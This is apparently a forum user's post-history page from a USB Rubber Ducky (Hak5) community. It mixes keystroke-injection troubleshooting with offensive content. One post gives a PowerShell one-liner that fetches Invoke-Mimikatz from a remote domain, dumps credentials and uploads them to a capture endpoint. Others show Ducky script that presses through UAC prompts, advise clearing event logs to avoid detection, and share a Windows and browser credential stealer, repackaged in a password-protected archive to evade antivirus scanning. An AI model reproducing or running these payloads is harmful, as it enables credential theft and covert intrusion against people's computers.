Jump to content


Active Members
  • Posts

  • Joined

  • Last visited

  • Days Won


Everything posted by Enzym3

  1. https://wifipineapple.github.io/wifipineapple-wiki//#!setup.md
  2. According to Darren, yes. Not sure which version of the firmware that would be though.
  3. If my above response wasn't helpful, try adding this line of code before the Net.WebClient line: [System.Net.ServicePointManager]::Expect100Continue = $false http://stackoverflow.com/questions/566437/http-post-returns-error-417-expectation-failed
  4. Is that the EXACT output from the console, or did you edit the URL for privacy before posting? If this is copied straight from your console, then the problem would be: IEX(New-Object Net.WebClient).DownloadString('http://<my domain.com>/im.ps1');$o=Invoke-Mimikatz -DumpCreds;(New-Object Net.WebClient).UploadString('http://<my domain.com>/capture.php',$o) You'd need to change the highlighted section to an actual domain which you wish to use. I have a feeling you edited it like that on purpose, but it wouldn't be the first time I've seen someone copy/paste code and run it without noticing it needs to be modified to fit first.
  5. Not that I could find, but you can just as easily pause the video at certain times to copy the code yourself.
  6. I got the same results as you. There are, of course, plenty of payloads that can be ran on a non-administrator level of PowerShell/CMD and certain privilege escalation attacks that can be done, but this does provide a very big deterrent to many of the ducky payloads you see out there right now.
  7. Awesome idea! I'll try to get around to test it out over the weekend if I'm not busy finishing up a work project. If I do, I'll report back with myexperience using it. Cheers!
  8. I have not ran into that issue before, but good looking out. I'll keep an eye out for it and make sure to account for it. Good call too on CTRL + C to jump to the next line. Much easier!
  9. I'm certain there's a way to do what you're wanting to do, but it may require too much work or a very specific exploit to actually be viable since most often you want a payload that will work on a broad range of hosts. I wish I had an answer for you, but I just started messing with PowerShell in the past few weeks, so my knowledge is still extremely basic. One other tip I will give you that I quickly learned and don't see any other payloads accounting for is writing payloads that will work both with UAC and without UAC enabled. And by that I mean having your payload press ALT + Y to bypass the UAC prompt while accounting for any hosts that don't prompt for UAC which will end up causing the PowerShell script to begin with a 'y' (since the dialog box doesn't pop up, it ends up typing in the PowerShell window), thus causing an error when the following command is executed. Before you start inserting your first line of code, you need to LEFTARROW and then press DELETE to take care of the leading 'y' first. Therefore, I always write my UAC bypass portion of my payloads like this: <...> STRING powershell Start-Process powershell -Verb runAsENTER DELAY 300 ALT y DELAY 300 LEFTARROW DELAY 50 DELETE DELAY 50 STRING $usbpath = Get-WMIObject Win32_Volume | ? { $_.Label -eq 'QUACK' } | select name <...> Cheers, -Enzym3
  10. Just a tip: You can use the -whatif parameter in PowerShell at the end of any line of code that will make changes to your system to see the result of executing the code without it actually executing. Additionally, you can use -confirm in a similar fashion to be prompted before the changes take effect. This is how I tested your code to see why it wasn't working. I opened two separate PowerShell windows and typed in your code and added the -whatif parameter to the end in each and here's what I got: Non-administrator shell: Adminstrator shell:
  11. You would require running PowerShell in administrator mode in order to execute that code,meaning you'll have to bypass UAC the old fashioned way using ALT + Y for at least the first time you run it on a targeted machine that has UAC enabled. However, it would still be useful if you intend to run multiple payloads that would require bypassing multiple prompts, or any situation where you may not want a user to catch on to things being executed while they're actively using the PC. That being said, a smart user may notice that UAC has been disabled and start sniffing around, so make sure your payloads are clearing the system event logs at the end.
  12. Keep in mind, this is not what I intended to release. This was just a few hours work taking two separate tools already available, heavily gutting and jerry-rigging it just enough that I knew that it would work in concept. Prior to starting this project, I had zero experience in Powershell (besides using it to run common/simple things often used in CMD), so I was teaching myself as I went by tracing the code already there and experimenting. If you see some edit's I've made and it looks sloppy as all hell, or there's multiple lines of codethat could easily be a few bits of code, or you see redundant variables/daisy-chained variables, it's probably because I was changing little bits of code around to test and learn, after which I know there is a ton of code cleanup to do as well as removing lots of unnecessary code leftover from separate functions the tool could do for which I didn't have any use. But, if anyone sees any errors that would be a good learning opportunity, I would love to hear what you have to say. I'm a sponge for knowledge and I look forward to slowly tweaking everything and making it efficient and adding a handful of other handy features. TL;DR - I'm brand new as Powershell. It's messy. I'm sorry, but I'm just sharing what I have in hopes other newbies at PS can learn something as well. Hopefully someone finds something useful here, or at least can serve as a springboard for some way cooler shit. Cheers, -Enzym3
  13. Can you post some more info? Such as the payload you're referencing and any other info you can supply? It's hard for anyone to help you out if they don't have all the info they need.
  14. Ah hah! It worked. I had to wrap it into a WinRAR archive so that I could passwordprotect it and encrypt the filenames, and when I tested the downloadlink it actually worked correctly. Download link: https://drive.google.com/open?id=0Bz2WgiBl-P0jMEYzQzBVSkVMVmM The password to access the archive is: quack Cheers, -Enzym3
  15. Ugh. Sorry, fellas. I just got back home and saw all the fuss. I don't know what exactly it was about that ZIP archive that violated Google's TOS, but I've never had that issue before. It's possible that maybe their AV scan flagged the browser password stealer tool or one of the powershell scripts as malicious. I'm not certain. I'll see if I can just re-zip the file and add a password to it and hope that it will allow it to get around their AV scan by not allowing it access. I'll play around with it and figure somethingout.
  16. Sorry for the delay, everyone.I just now got access to a PC while I'm out of town. I managed to remote into my home PC and upload the necessary files onto my Google Drive. Here's a link to the ZIP archive that contains what you'll need. I included a README file for anyone new to using the ducky. The veterans shouldn't have any issues figuring out how to use it. If anyone has any questions about it, let me know. I'll be back home on Monday and I'll do my best to help you out. If anyone customizes the scripts, I'd love for you to share them here with everyone. I'll certainly keep working on it whenever I get the chance and post my updates as well. Cheers, everyone! -Enzym3 Download (Google Drive)
  17. Most definitely. I intentionally left out a handful of the typical obfuscation tricks just so you could see what's happening in the video since I recorded it just before bed that night instead of doing one with a voiceover and more in depth description. I'm currently driving 15 hours back home for thanksgiving, but sometime after family get togethers today I'll sit down and remote into my home PC and get you guys my source code. I still plan on vastly improving it and adding features, but if any of you make your own changes, I'd love to see what you've come up with! Happy Thanksgiving! -Enzym3
  18. See my reply in a similar thread I made just a few moments ago regarding the same topic: Hope that helps. I'd offer more help if I weren't at work. Cheers, -Enzym3
  19. I made a payload to steal Windows credentials as well as stored browser passwords, then save the output txt documents to the ducky. I coded it on a Sunday a few weeks back and haven't had the time to go back and clean it up and add all theadditional features that I want to yet, but you can see how it works in a video I posted showcasing it. Instead of explaining it all again, you can see more about it in the description of the video. Oh, and I used the on-screen keyboard in the video just to show that the script is set to fire on an LED toggle (caps lock, num lock, or scroll lock key press). Otherwise, it wouldn't have been obvious that I pressed a button on the keyboard to fire it. Although I wanted to wait until I was finished editing it how I want it, since I've been busy with work, I'll gladly share my source code if anyone is interested. Just leave a comment on the video and I'll get in contact with you (I see YouTube notifications much easier than PMs on here, although I'll eventually catch either one).
  20. You can grab any microSD -> USB adapter at a local Wal-Mart, Best Buy, Micro Center, or just about anywhere that has basic electronics selections for just a few bucks if you ever need it in the future.
  21. It could have something to do with the Atmel driver. I had a somewhat similar issue, but I can't say for certain the exact steps I took to fix it, but I know I messed around with it for a few good hours before getting it to work. Have you checked out this page? https://github.com/hak5darren/USB-Rubber-Ducky/wiki/Flashing-ducky Hopefully this gets you pointed in the right direction. If I weren't at work (don't tell my boss, hah) and had my home rig in front of me, I'd probably be more help. In the meantime, check out that link and see what you can come up with. Best of luck! Cheers, -Enzym3
  22. When you mention the 'fn' key, is that the synonymous with the 'command' key? Have you tried using 'COMMAND' to press the command key? Sorry for misunderstanding your initial question. I may still be on the wrong track, but that's the only different key I see listed for OSX keyboards compared toWindows/Unix.
  23. Can you not use the combo 'GUI SPACE' and then use 'STRING [KEYWORD]' to find where you're needing to go? Example of opening a terminal on Mac OSX: DELAY 1000 GUI SPACE STRING terminal DELAY 500 ENTER <...> I don't own a Mac, but by looking a several OSX payloads, it seems like 'GUI SPACE' brings up some sort of search option similar to pressing your Windows key and typing in what you're looking for. Hopefully I'm on the right track and that answers your question.
  24. Max delay is 10000 (10 seconds). However, you can string together multiple delays to get the desired result.
  25. For whatever reason, it stopped allowing me to post replies on the forum the other day. You can make the script even shorter: DELAY 2000 GUI r DELAY 200 STRING iexplore -k http://geektyper.com/plain/ ENTER DELAY 5000 STRING 6 The -k option automatically opens the website in fullscreen mode.
  • Create New...